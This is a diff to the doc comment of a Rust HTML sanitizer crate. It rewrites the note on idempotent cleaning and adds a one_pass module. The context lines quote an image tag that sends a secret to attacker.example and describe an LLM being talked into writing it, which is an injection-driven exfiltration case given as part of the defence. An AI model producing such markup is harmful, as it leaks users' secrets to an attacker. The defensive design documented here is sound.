@@ -10,9 +10,10 @@
 //!   look-alike hosts are judged by where they lead, and written out as judged. Images load only from the site and an allow-list of hosts: an LLM
 //!   talked into writing `<img src="https://attacker.example/?q=SECRET">` cannot
 //!   exfiltrate anything when the page renders.
-//! - **Stable output**: cleaning is repeated until it reaches a fixed point, so
-//!   `clean(clean(x)) == clean(x)` even for inputs where one ammonia pass is not
-//!   (nested links, ammonia issue #185).
+//! - **Stable output**: `clean(clean(x)) == clean(x)`, even for inputs where one
+//!   ammonia pass is not (nested links, ammonia issue #185). Output that reads as the
+//!   same tokens as its input is a fixed point already (parsing it again builds the
+//!   same tree); anything else is cleaned again until it settles.
 //! - **Text spoofing and hidden text**: bidi overrides and word joiners are removed (a
 //!   link that reads one way and goes another), and so are `dir` attributes on links
 //!   and inside them; joiners, zero-width spaces, variation selectors, direction marks
@@ -70,6 +71,7 @@ mod blocks;
 mod error;
 mod hidden;
 mod nesting;
+mod one_pass;
 mod policy;
 mod text;
 mod urls;
